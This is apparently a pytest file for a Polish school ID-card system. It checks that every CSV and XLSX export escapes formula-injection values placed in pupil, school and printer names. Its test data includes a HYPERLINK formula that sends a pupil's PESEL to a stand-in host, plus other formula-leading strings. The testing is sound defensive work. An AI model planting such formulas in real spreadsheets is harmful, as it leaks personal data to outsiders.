"""Every spreadsheet the product writes, downloaded the way its user downloads it, with pupils and
settings named like formulas (`=HYPERLINK("http://x/?p="&C4,"Anna")` would send the PESEL in C4
to whoever clicks): the school's registry XLSX and SIO CSV, the roster templates, the printer's
package (its MEiN_I_x.xlsx and any other sheet inside), the city's dashboard tables and cost
exports as CSV and XLSX. Read back with openpyxl and csv: no formula cell, every text cell a
string, no CSV field starting with =, +, -, @, tab or CR unless it is a number.

The forms refuse such names now (tests/portal/test_name_entry.py), so the test writes them
straight into the database as the owner role, as data entered before the rule would be.
"""

from __future__ import annotations

import csv
import io
import re

import py7zr
import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy import text

from infra.db import db
from printing import operations as printing_ops
from printing.models import PrintOrder
from printing.tasks import relay_outbox
from reports import dashboard
from reports import scenario_tables
from reports.statistics import refresh_all
from tenants.pupils import applications
from tenants.tenancy.actors import Actor
from tenants.tenancy.context import Tenant
from tenants.tenancy.context import tenant_scope
from tenants.tenancy.models import Organisation
from tests.helpers import add_pupil
from tests.helpers import handed_over_cards
from tests.helpers import letters
from tests.helpers import run_jobs
from tests.helpers import store_photo

HOSTILE = ('=HYPERLINK("http://x/?p="&C4,"Anna")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")
LEADS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-[0-9][0-9 \u00a0]*(,[0-9]+)?")  # a negative amount typed as a number
SCHOOL_NAME, PRINTER_NAME, CENTRE_NAME, OWN_MODEL = "-2+3", HOSTILE[0], "+1", "@SUM(A1)"
DIRECTOR, NUMBER_FORMAT = "\t=1", "+{n}"
EXPORT_ENDPOINTS = {"registry.book_xlsx", "mleg.export", "imports.template", "registry.import_template",
                    "printer.download_package",
                    "city.export", "city_costs.export", "city_consultations.export", "city_scenarios.export"}
OWN_PRINTER_FORM = {"model": "Evolis Primacy 2", "purchase_price": "6500", "licence_per_year": "1000",
                    "starter_kit_price": "500", "blank_price": "6,20", "hologram_price": "1,10",
                    "ribbon_price": "450", "ribbon_yield": "300", "spoilage_percent": "4", "lead_time_days": "2"}
CENTRE_FORM = {"model": "Fargo HDP5000", "purchased_on": "01.09.2024", "purchase_price": "8 000",
               "amortisation_years": "4", "licence_per_year": "1000", "starter_kit_price": "500",
               "blank_price": "6,20", "hologram_price": "1,10", "ribbon_price": "450", "ribbon_yield": "300",
               "staff_minutes_per_card": "1,5", "hourly_rate": "60", "spoilage_percent": "2", "lead_time_days": "5"}


def as_owner(database, sql: str, rows: list[dict], **tenant) -> None:
    """UPDATE as the owner role (under forced RLS too, hence the tenant settings)."""
    owner, _tables = database
    with owner.begin() as conn:
        for key, value in tenant.items():
            conn.execute(text("SELECT set_config(:key, :value, true)"), {"key": f"app.{key}", "value": str(value)})
        for params in rows:
            assert conn.execute(text(sql), params).rowcount == 1, (sql, params)


def csv_rows(data: bytes) -> list[list[str]]:
    """The CSV's fields; fails on a field that a spreadsheet would run as a formula."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    for row in rows:
        for field in row:
            assert not field.startswith(LEADS) or NUMBER.fullmatch(field), field
    return rows


def xlsx_texts(data: bytes) -> set[str]:
    """Every text of every sheet (CR read back as LF, as XML has it); fails on a formula cell or a
    text cell that is not a string cell."""
    texts = set()
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    texts.add(cell.value.replace("\r", "\n"))
    return texts


def as_read(value: str) -> str:
    return value.replace("\r", "\n")


@pytest.fixture
def hostile(app, database, world, two_schools, browser):
    """School A of city C: six pupils with handed-over cards and six in an order to P1 built by the
    worker, all named from HOSTILE, as are A's name, director, number format and own printer, P1
    and the city's print centre."""
    ids = dict(two_schools)
    a, city = ids["a"], ids["city"]
    ids["centre"] = world.printer([city], "Centrum Druku", tiers=((1, "10.00"),), agreements=False)
    as_owner(database, "UPDATE organisations SET is_city_print_centre = true WHERE id = :id", [{"id": ids["centre"]}])
    as_owner(database, "UPDATE organisations SET card_number_format = :f WHERE id = :id", [{"f": NUMBER_FORMAT,
                                                                                           "id": a}])
    assert browser("dyrektor.a@test.pl").post("/szkola/ustawienia/drukarka", OWN_PRINTER_FORM).status_code == 302
    official = browser("urzednik@test.pl")
    assert official.post("/miasto/koszty/centrum", CENTRE_FORM | {"printer_id": ids["centre"]}).status_code == 302
    actor = Actor(user_id=ids["director_a"], role="school_director", organisation_id=a)
    with app.app_context(), tenant_scope(Tenant(school_id=a)):
        school = db.session.get(Organisation, a)
        handed = [add_pupil(actor, surname=f"Wydana{letters(i)}", serial=300 + i, class_name="1a") for i in range(6)]
        cards = handed_over_cards(actor, school, ids["p1"], handed)
        printed = [add_pupil(actor, surname=f"Drukowana{letters(i)}", serial=400 + i, class_name="1b")
                   for i in range(6)]
        approved = []
        for pupil in printed:
            store_photo(actor, school, pupil)
            application = applications.create_application(actor, pupil, "first", school=school)
            applications.decide_application(actor, application, approve=True)
            approved.append(application.id)
        order = printing_ops.create_order(actor, school, ids["p1"], approved)
        printing_ops.submit_order(actor, order)
        db.session.commit()
        ids["order"] = order.id
        pupils = [(p.id, i) for i, p in enumerate(handed + printed)]
        card_ids = [c.id for c in cards]
    # What forms refuse today, as it may be stored from before (or written by another path).
    n = len(HOSTILE)
    as_owner(database, "UPDATE pupils SET surname = :s, first_names = :f, class_name = :c WHERE id = :id",
             [{"id": pid, "s": HOSTILE[i % n], "f": HOSTILE[(i + 1) % n], "c": HOSTILE[(i + 2) % n][:20]}
              for pid, i in pupils], school_id=a)
    as_owner(database, "UPDATE cards SET collected_by = :v, status_note = :v WHERE id = :id",
             [{"id": cid, "v": HOSTILE[i % n]} for i, cid in enumerate(card_ids)], school_id=a)
    as_owner(database, "UPDATE school_printers SET model = :m WHERE school_id = :id", [{"m": OWN_MODEL, "id": a}],
             school_id=a)
    as_owner(database, "UPDATE centre_cost_profiles SET model = :m WHERE printer_id = :id",
             [{"m": HOSTILE[5], "id": ids["centre"]}], city_id=city)
    as_owner(database, "UPDATE organisations SET name = :name, director_name = :director WHERE id = :id",
             [{"name": SCHOOL_NAME, "director": DIRECTOR, "id": a}])
    as_owner(database, "UPDATE organisations SET name = :name WHERE id = :id",
             [{"name": PRINTER_NAME, "id": ids["p1"]}, {"name": CENTRE_NAME, "id": ids["centre"]}])
    with app.app_context():
        relay_outbox()  # the submitted order's batch job
    run_jobs(app)  # built from the names as they are now
    with app.app_context():
        refresh_all()  # the city's numbers
    return ids


def test_the_schools_registry_xlsx_sio_csv_and_roster_templates(app, hostile, browser):
    staff = browser("sekretariat.a@test.pl")
    registry = staff.get("/szkola/ewidencja/ewidencja.xlsx")
    assert registry.status_code == 200
    texts = xlsx_texts(registry.data)
    for value in HOSTILE:  # as data, intact: "Nazwisko i imiona", "Odebrał(a)", "Uwagi"
        assert as_read(value) in texts and as_read(f"{value} {HOSTILE[(HOSTILE.index(value) + 1) % 6]}") in texts
    assert "+1" in texts  # the card number from the school's format "+{n}"
    sio = staff.get("/szkola/mlegitymacja/sio.csv")
    assert sio.status_code == 200
    rows = csv_rows(sio.data)
    assert len(rows) == 7  # the header and the six handed-over cards
    assert sorted(row[1] for row in rows[1:]) == sorted("'" + value for value in HOSTILE)  # Nazwisko
    assert {row[6] for row in rows[1:]} == {f"'+{n}" for n in range(1, 7)}  # Numer legitymacji
    for url in ("/szkola/import/szablon", "/szkola/ewidencja/import/szablon"):  # pupils; the register (§24)
        for ext in ("csv", "xlsx"):
            template = staff.get(f"{url}.{ext}")
            assert template.status_code == 200
            csv_rows(template.data) if ext == "csv" else xlsx_texts(template.data)


def test_the_printers_package_holds_no_formula(app, hostile, browser, tmp_path):
    printer = browser("drukarnia.1@test.pl")
    order_id = hostile["order"]
    with app.app_context(), tenant_scope(Tenant(school_id=hostile["a"])):
        order = db.session.scalar(select(PrintOrder).where(PrintOrder.id == order_id))
        assert order.status == "ready", order.error
    assert printer.post(f"/drukarnia/zamowienia/{order_id}/przyjmij").status_code == 302
    packed = printer.post(f"/drukarnia/zamowienia/{order_id}/paczka.7z")
    assert packed.status_code == 200
    page = printer.post(f"/drukarnia/zamowienia/{order_id}/haslo").get_data(as_text=True)
    password = re.search(r'<code class="password">([^<]+)</code>', page).group(1)
    with py7zr.SevenZipFile(io.BytesIO(packed.data), password=password) as archive:
        archive.extractall(tmp_path)
    sheets = sorted(p for p in tmp_path.rglob("*") if p.suffix in (".xlsx", ".csv"))
    assert [p.name for p in sheets] == ["MEiN_I_1.xlsx"]
    texts = set()
    for path in sheets:
        texts |= xlsx_texts(path.read_bytes()) if path.suffix == ".xlsx" else {f for r in csv_rows(path.read_bytes())
                                                                                 for f in r}
    assert {as_read(v) for v in HOSTILE} <= texts  # surnames and first names, intact
    assert {SCHOOL_NAME, as_read(DIRECTOR), "+1"} <= texts  # the school's name, director, a card number


def test_the_citys_tables_and_cost_exports(app, hostile, browser):
    official = browser("urzednik@test.pl")
    texts: set[str] = set()
    fields: set[str] = set()
    urls = [f"/miasto/eksport/{key}.{{fmt}}" for key in dashboard.TABLES]
    urls += [f"/miasto/koszty/eksport/kanaly.{{fmt}}?school_id={hostile['a']}",
             f"/miasto/koszty/eksport/co_jesli.{{fmt}}?channel=printer-{hostile['p1']}",
             "/miasto/koszty/eksport/co_jesli.{fmt}?channel=own",
             "/miasto/koszty/eksport/co_jesli_kanaly.{fmt}",
             f"/miasto/koszty/eksport/centrum.{{fmt}}?printer_id={hostile['centre']}"]
    urls += [f"/miasto/koszty/scenariusze/eksport/{key}.{{fmt}}" for key in scenario_tables.KEYS]
    for url in urls:
        xlsx = official.get(url.format(fmt="xlsx"))
        assert xlsx.status_code == 200, url
        texts |= xlsx_texts(xlsx.data)
        data = official.get(url.format(fmt="csv"))
        assert data.status_code == 200, url
        fields |= {field for row in csv_rows(data.data) for field in row}
    for name in (SCHOOL_NAME, PRINTER_NAME, CENTRE_NAME):  # in the facts, lead-time and cost tables
        assert name in texts and "'" + name in fields, name
    own = f"{OWN_MODEL} (drukarka szkoły)"  # the channel comparison names the school's own printer by its model
    assert own in texts and "'" + own in fields
    assert any(t.startswith(f"{CENTRE_NAME}: koszt karty") for t in texts)  # the centre table's title
    assert f"Zamówienie miasta: {PRINTER_NAME}" in texts  # the scenarios name the printer by its name


def test_the_consultations_exports(app, database, hostile, browser):
    """The consultation's tables (docs/city.md, Konsultacje z dyrektorami): the directors' free text
    and the consultation's title written like formulas stay text."""
    import datetime as dt

    from infra import clock
    from infra import inputs

    official = browser("urzednik@test.pl")
    deadline = inputs.format_day(clock.today() + dt.timedelta(days=10))
    created = official.post("/miasto/konsultacje/", data={"title": "Konsultacja", "deadline": deadline,
                                                          "extra_question": HOSTILE[3]})
    cid = int(created.headers["Location"].rsplit("/", 1)[1])
    assert official.post(f"/miasto/konsultacje/{cid}/otworz").status_code == 302
    answer = {"satisfaction": "3", "staff_hours": "2", "preference": "no_opinion", "problems": ["other"],
              "problems_text": HOSTILE[1], "comments": HOSTILE[0], "extra_answer": HOSTILE[2]}
    assert browser("dyrektor.a@test.pl").post(f"/szkola/konsultacje/{cid}", data=answer).status_code == 302
    as_owner(database, "UPDATE consultations SET title = :t WHERE id = :id", [{"t": DIRECTOR, "id": cid}],
             city_id=hostile["city"])
    texts: set[str] = set()
    fields: set[str] = set()
    for key in ("answers", "summary", "missing"):
        xlsx = official.get(f"/miasto/konsultacje/{cid}/eksport/{key}.xlsx")
        assert xlsx.status_code == 200, key
        texts |= xlsx_texts(xlsx.data)
        data = official.get(f"/miasto/konsultacje/{cid}/eksport/{key}.csv")
        assert data.status_code == 200, key
        fields |= {field for row in csv_rows(data.data) for field in row}
    for value in (SCHOOL_NAME, HOSTILE[0], HOSTILE[1], HOSTILE[2]):  # the school A and its director's words
        assert value in texts and "'" + value in fields, value
    assert any(t.endswith(as_read(DIRECTOR)) for t in texts)  # the title, in the tables' titles


def test_every_download_of_a_spreadsheet_is_covered_here(app):
    """A new CSV/XLSX download (or anything named like one) must be added to the tests above."""
    exports = {rule.endpoint for rule in app.url_map.iter_rules()
               if re.search(r"\.(csv|xlsx|7z|<[^>]*(fmt|ext)>)$", rule.rule)}
    assert exports == EXPORT_ENDPOINTS
